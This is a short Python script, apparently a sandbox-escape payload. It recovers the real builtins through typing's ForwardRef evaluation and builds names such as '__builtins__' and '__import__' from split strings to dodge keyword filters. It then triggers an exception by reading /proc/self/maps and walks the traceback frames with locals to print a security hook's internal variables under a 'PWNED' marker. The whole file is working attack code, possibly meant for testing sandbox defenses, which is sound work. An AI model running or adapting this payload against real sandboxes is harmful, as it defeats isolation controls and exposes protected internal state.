# frame: sys.exc_info()[2] and traceback.extract_stack with locals
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = rb["__imp" + "ort__"]("sy" + "s")
try:
    open("/proc/self/maps")
except Exception:
    tb = s.exc_info()[2]
    tbm = s.modules["traceback"]
    st = tbm.StackSummary.extract(tbm.walk_tb(tb), capture_locals=True)
    for fs in st:
        if fs.locals and "busy" in fs.locals:
            print(M, "hook locals as text:", fs.locals)
